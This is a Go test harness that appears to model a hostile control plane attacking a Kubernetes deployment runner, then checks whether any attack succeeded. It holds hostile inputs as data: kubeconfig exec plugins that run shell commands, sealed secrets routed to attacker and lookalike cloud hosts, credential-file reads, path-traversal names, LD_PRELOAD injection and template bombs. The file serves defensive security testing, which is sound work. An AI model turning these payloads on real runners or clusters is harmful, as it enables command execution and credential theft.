package controlplane

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"

	"github.com/nuon-toolkit/nuon/examples/internal/attack"
	"github.com/nuon-toolkit/nuon/pkg/api"
	"github.com/nuon-toolkit/nuon/pkg/artifact"
	"github.com/nuon-toolkit/nuon/pkg/seal"
	"github.com/nuon-toolkit/nuon/pkg/sha256digest"
)

const (
	install = "ins_00000000000000000000000001"
	// planted is a secret that a person once entered. The control plane has its ciphertext.
	planted = "correct-horse-battery-staple-81"
)

// Attacks returns the attacks of a hostile control plane on a machine. Each is judged by its
// effects on the machine and on the network, not by the reports of the runner.
func Attacks(m *Machine) []attack.Attack {
	return []attack.Attack{
		{Name: "a credential plugin in a health job", Try: m.try(m.plugin)},
		{Name: "a sealed value sent to a cluster of the attacker's", Try: m.try(m.token)},
		{Name: "a cluster that looks like a cloud's", Try: m.try(m.lookalike)},
		{Name: "a kubeconfig as an output", Try: m.try(m.kubeconfig)},
		{Name: "a sealed value as an address, a command or an argument", Try: m.try(m.misplaced)},
		{Name: "a job that is not what was offered", Try: m.try(m.disguised)},
		{Name: "paths that lead out of the runner's directory", Try: m.try(m.paths)},
		{Name: "a plan bundle that the attacker sealed", Try: m.try(m.bundle)},
		{Name: "a spec with random changes", Try: m.try(m.mutated)},
	}
}

// Last judges once more, after every job has ended.
func (m *Machine) Last(ctx context.Context) error {
	if err := m.Plane.Settle(ctx); err != nil {
		return err
	}
	before, err := m.files()
	if err != nil {
		return err
	}
	return m.judge(before, nil)
}

// try returns a Try that makes an attempt and judges it.
func (m *Machine) try(attempt func(ctx context.Context, r *rand.Rand) (*api.JobResult,
	error)) func(context.Context, *rand.Rand) error {
	return func(ctx context.Context, r *rand.Rand) error {
		before, err := m.files()
		if err != nil {
			return err
		}
		result, err := attempt(ctx, r)
		if err != nil {
			return err
		}
		if m.Trace != nil {
			m.Trace(result)
		}
		return m.judge(before, result)
	}
}

// judge reports what the attacker achieved.
func (m *Machine) judge(before map[string]bool, result *api.JobResult) error {
	select {
	case <-m.ended:
		return attack.Breached("the runner ended: %s", m.Output())
	default:
	}
	if _, err := os.Stat(m.Canary); !errors.Is(err, fs.ErrNotExist) {
		_ = os.Remove(m.Canary)
		return attack.Breached("a command of the attacker's ran")
	}
	if n := m.Reached.Swap(0); n > 0 {
		return attack.Breached("%d connections were made to the attacker's address", n)
	}
	for name, text := range spellings(planted) {
		if strings.Contains(m.Plane.Received(), text) {
			return attack.Breached("the secret arrived, as %s", name)
		}
	}
	if result != nil && result.Status == api.JobResultStatusSucceeded && result.Apply.Outputs != nil {
		return attack.Breached("an apply succeeded: %+v", *result)
	}
	after, err := m.files()
	if err != nil {
		return err
	}
	for path := range after {
		if !before[path] {
			return attack.Breached("the runner wrote %s", path)
		}
	}
	return nil
}

func spellings(secret string) map[string]string {
	return map[string]string{
		"text": secret, "base64": base64.StdEncoding.EncodeToString([]byte(secret)),
		"hex": hex.EncodeToString([]byte(secret)),
	}
}

// files returns the files outside of the runner's directory, its home and the registry.
func (m *Machine) files() (map[string]bool, error) {
	top, found := filepath.Dir(m.dir), map[string]bool{}
	err := filepath.WalkDir(top, func(path string, entry fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case entry.IsDir() && (path == m.dir || path == filepath.Join(top, "home") || path == filepath.Join(top, "registry")):
			return fs.SkipDir
		}
		found[path] = true
		return nil
	})
	return found, err
}

// touch returns a command that creates the canary.
func (m *Machine) touch() []string { return []string{"/bin/sh", "-c", "touch " + m.Canary} }

// spec returns a valid job, which the caller can modify.
func (m *Machine) spec(r *rand.Rand, kind api.JobSpecKind) api.JobSpec {
	return api.JobSpec{Job: fmt.Sprintf("job_%016x", r.Uint64()), Attempt: 1, Kind: kind, Org: "org_1", TimeoutSeconds: 20}
}

// deploy returns the spec of a component whose cluster is defined by the plain and sealed values.
func (m *Machine) deploy(r *rand.Rand, cluster map[string]any, sealed ...api.SealedValue) api.DeploySpec {
	plain, err := json.Marshal(map[string]any{"sandbox": map[string]any{"outputs": map[string]any{"cluster": cluster}}})
	if err != nil {
		panic(err) // maps of texts always encode
	}
	d := api.DeploySpec{
		Install: "acme", InstallID: install, Component: "web", InstallComponent: "inc_00000000000000000000000001",
		Artifact: api.ArtifactRef{Repository: "web", Digest: sha256digest.Of(nil)}, Repository: "plans",
		Values:  api.Values{Plain: plain, Sealed: sealed},
		Cluster: api.ClusterSpec{Context: "sandbox", Path: []string{"sandbox", "outputs", "cluster"}},
	}
	if r.IntN(2) == 0 {
		d.ComponentKind, d.Manifest = "kubernetes_manifest", api.ManifestSpec{Namespace: "default"}
		return d
	}
	d.ComponentKind, d.Helm = "helm_chart", api.HelmSpec{Release: "web", Namespace: "default", StorageDriver: "secret"}
	return d
}

// give makes the runner work on a deploy, as a health check, a plan or an apply.
func (m *Machine) give(ctx context.Context, r *rand.Rand, deploy api.DeploySpec) (*api.JobResult, error) {
	job := &Job{OfferedComponent: deploy.ComponentKind}
	switch r.IntN(3) {
	case 0:
		job.Spec = m.spec(r, api.JobSpecKindHealth)
		job.Spec.Health = api.HealthSpec{Install: deploy.Install, InstallID: deploy.InstallID,
			Parts: []api.HealthPart{{Deploy: deploy}}}
		job.OfferedComponent = ""
	case 1:
		job.Spec = m.spec(r, api.JobSpecKindPlan)
		job.Spec.Plan = api.PlanSpec{Deploy: deploy, DesiredDigest: sha256digest.Of([]byte("desired")),
			Destroy: r.IntN(2) == 0}
	default:
		job.Spec = m.spec(r, api.JobSpecKindApply)
		job.Spec.Apply = api.ApplySpec{Deploy: deploy, Plan: "pln_1", Bundle: deploy.Artifact, Destroy: r.IntN(2) == 0}
	}
	return m.Plane.Do(ctx, job)
}

func (m *Machine) plugin(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	command := m.touch()
	return m.give(ctx, r, m.deploy(r, map[string]any{
		"endpoint": "https://" + m.Foreign,
		"exec": map[string]any{"command": command[0], "args": command[1:],
			"api_version": "client.authentication.k8s.io/v1"},
	}))
}

// stolen returns the ciphertext of the planted secret, at a path that the attacker chooses.
func (m *Machine) stolen(path ...string) (api.SealedValue, error) {
	sealed, err := m.Plane.Recipient().Seal(seal.InputContext(install, "password"), []byte(planted))
	return api.SealedValue{Path: path, Sealed: sealed}, err
}

func (m *Machine) token(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	places := [][]string{{"sandbox", "outputs", "cluster", "token"}, {"inputs", "inputs", "password"},
		{"components", "db", "outputs", "token"}}
	path := places[r.IntN(len(places))]
	stolen, err := m.stolen(path...)
	if err != nil {
		return nil, err
	}
	deploy := m.deploy(r, map[string]any{"endpoint": "https://" + m.Foreign, "certificate_authority_data": ""}, stolen)
	if path[0] == "inputs" { // at its proper path, with a cluster that refers to it
		deploy.Cluster.Path = []string{"inputs", "inputs"}
		deploy.Values.Plain = json.RawMessage(fmt.Sprintf(`{"inputs":{"inputs":{"endpoint":"https://%s","token":"x"}}}`,
			m.Foreign))
	}
	return m.give(ctx, r, deploy)
}

func (m *Machine) lookalike(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	hosts := []string{
		"https://" + m.Foreign, "https://0123.gr7.us-east-1.eks.amazonaws.com.evil",
		"https://x.eu-west-1.eks.amazonaws.com.co:443",
		"https://evil.gke.goog.attacker.test", "https://a.hcp.westeurope.azmk8s.io.attacker.test",
	}
	cluster := map[string]any{"endpoint": hosts[r.IntN(len(hosts))], "name": "prod"}
	for _, name := range []string{"location", "project", "project_id", "region", "resource_group"} {
		if r.IntN(2) == 0 {
			cluster[name] = "x"
		}
	}
	return m.give(ctx, r, m.deploy(r, cluster))
}

func (m *Machine) kubeconfig(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	users := []string{
		fmt.Sprintf(`{exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "touch %s"], interactiveMode: Never}}`, m.Canary),
		fmt.Sprintf(`{tokenFile: %q}`, filepath.Join(m.dir, "install.key")),
		fmt.Sprintf(`{client-certificate: %q, client-key: %q}`, filepath.Join(m.dir, "install.key"),
			filepath.Join(m.dir, "runner.json")),
		`{token: x}`,
	}
	clusters := []string{
		fmt.Sprintf(`{server: "https://%s", insecure-skip-tls-verify: true}`, m.Foreign),
		fmt.Sprintf(`{server: "https://%s"}`, m.Foreign),
		fmt.Sprintf(`{server: "https://kubernetes.test", proxy-url: "http://%s"}`, m.Foreign),
		fmt.Sprintf(`{server: "https://%s", certificate-authority: %q}`, m.Foreign, filepath.Join(m.dir, "install.key")),
	}
	text := fmt.Sprintf("apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts: [{name: c, context: {cluster: c, "+
		"user: u}}]\n"+
		"clusters: [{name: c, cluster: %s}]\nusers: [{name: u, user: %s}]\n", clusters[r.IntN(len(clusters))],
		users[r.IntN(len(users))])
	if r.IntN(2) == 0 {
		text = base64.StdEncoding.EncodeToString([]byte(text))
	}
	return m.give(ctx, r, m.deploy(r, map[string]any{"kubeconfig": text}))
}

func (m *Machine) misplaced(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	places := [][]string{{"endpoint"}, {"host"}, {"certificate_authority_data"}, {"kubeconfig"}, {"exec", "command"},
		{"exec", "args"}, {"name"}}
	stolen, err := m.stolen(append([]string{"sandbox", "outputs", "cluster"}, places[r.IntN(len(places))]...)...)
	if err != nil {
		return nil, err
	}
	return m.give(ctx, r, m.deploy(r, map[string]any{"endpoint": "https://" + m.Foreign, "token": "x"}, stolen))
}

func (m *Machine) disguised(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	values := api.Values{Plain: json.RawMessage(`{}`), Sealed: []api.SealedValue{}}
	command := strings.Join(m.touch()[2:], " ")
	job := &Job{OfferedKind: "plan", OfferedComponent: "kubernetes_manifest"}
	switch r.IntN(3) {
	case 0:
		job.Spec = m.spec(r, api.JobSpecKindAction)
		job.Spec.Action = api.ActionSpec{
			Install: "acme", InstallID: install, Action: "x", Trigger: "manual", Values: values,
			Steps: []api.ActionStep{{Name: "s", InlineContents: "#!/bin/sh\n" + command + "\n"}},
		}
	case 1:
		job.Spec = m.spec(r, api.JobSpecKindPlan)
		deploy := m.deploy(r, map[string]any{})
		deploy.ComponentKind, deploy.Terraform = "terraform_module", api.TerraformSpec{Version: "1.11.4"}
		job.Spec.Plan = api.PlanSpec{Deploy: deploy}
	default:
		job.Spec = m.spec(r, api.JobSpecKindBuild)
		job.Spec.Build = api.BuildSpec{Build: "bld_1", Component: "web", ComponentKind: "terraform_module", Repository: "web"}
	}
	if r.IntN(2) == 0 { // offered with its real kind
		job.OfferedKind = ""
	}
	return m.Plane.Do(ctx, job)
}

// out lists names that lead out of a directory.
var out = []string{
	"../../../escaped", "..", ".", "/tmp/../escaped", "a/../../../../escaped", "x\x00y", strings.Repeat("x", 4000), "",
	"-rf", "a\nb", ".ssh/../..",
}

func (m *Machine) paths(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	name := out[r.IntN(len(out))]
	deploy := m.deploy(r, map[string]any{"endpoint": "https://" + m.Foreign, "token": "x"})
	switch r.IntN(5) {
	case 0:
		deploy.InstallComponent = name
	case 1:
		deploy.InstallID = name
	case 2:
		deploy.Repository = name
	case 3:
		deploy.Artifact = api.ArtifactRef{Repository: name, Digest: "sha256:../../" + name}
	default:
		deploy.Component = name
	}
	return m.give(ctx, r, deploy)
}

// bundle runs a plan of the attacker, sealed as anyone can who has the public key, from the
// install's own registry.
func (m *Machine) bundle(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	deploy := m.deploy(r, map[string]any{"endpoint": "https://" + m.Foreign, "token": "x"})
	note, err := json.Marshal(map[string]any{"format": 1 + r.IntN(3), "destroy": false,
		"environ": map[string]string{"LD_PRELOAD": "/tmp/x.so"}})
	if err != nil {
		return nil, err
	}
	packed, err := artifact.Tarball([]artifact.File{{Path: "bundle.json", Content: note},
		{Path: "report.json", Content: []byte("{}")}}, artifact.Limits{})
	if err != nil {
		return nil, err
	}
	sealed, err := m.Plane.Recipient().Seal(seal.Context{Install: install, Kind: seal.KindBundle,
		Component: deploy.InstallComponent, Path: "plan"}, packed)
	if err != nil {
		return nil, err
	}
	encoded, err := json.Marshal(sealed)
	if err != nil {
		return nil, err
	}
	digest, err := m.Install.Push(ctx, artifact.Wrap(artifact.MediaPlan, encoded, nil))
	if err != nil {
		return nil, err
	}
	job := &Job{Spec: m.spec(r, api.JobSpecKindApply), OfferedComponent: deploy.ComponentKind}
	job.Spec.Apply = api.ApplySpec{
		Deploy: deploy, Plan: "pln_1", Bundle: api.ArtifactRef{Repository: "attack", Digest: digest},
		Basis: api.Basis{Artifact: deploy.Artifact.Digest}, ReportDigest: sha256digest.Of([]byte("{}")),
	}
	return m.Plane.Do(ctx, job)
}

// mutated changes a spec at random places: by type, by value, by omission and by exchange.
func (m *Machine) mutated(ctx context.Context, r *rand.Rand) (*api.JobResult, error) {
	stolen, err := m.stolen("inputs", "inputs", "password")
	if err != nil {
		return nil, err
	}
	deploy := m.deploy(r, map[string]any{"endpoint": "https://" + m.Foreign,
		"token": "{{ .nuon.inputs.inputs.password }}"}, stolen)
	encoded, err := json.Marshal(deploy)
	if err != nil {
		return nil, err
	}
	var tree any
	if err := json.Unmarshal(encoded, &tree); err != nil {
		return nil, err
	}
	for range 1 + r.IntN(4) {
		tree = m.mutate(r, tree)
	}
	if encoded, err = json.Marshal(tree); err != nil {
		return nil, err
	}
	var changed api.DeploySpec
	if err := json.Unmarshal(encoded, &changed); err != nil {
		changed = deploy // a wrong type never reaches the runner's own checks
	}
	return m.give(ctx, r, changed)
}

func (m *Machine) mutate(r *rand.Rand, value any) any {
	switch value := value.(type) {
	case map[string]any:
		for name := range value {
			if r.IntN(len(value)) == 0 {
				value[name] = m.mutate(r, value[name])
				return value
			}
		}
	case []any:
		if len(value) > 0 {
			i := r.IntN(len(value))
			value[i] = m.mutate(r, value[i])
			return value
		}
	case string:
		evil := append([]string{
			"/bin/sh -c 'touch " + m.Canary + "'", "{{ .nuon.inputs.inputs.password }}", "https://" + m.Foreign,
			"{{ range 1000000000 }}x{{ end }}",
		}, out...)
		return evil[r.IntN(len(evil))]
	}
	return value
}
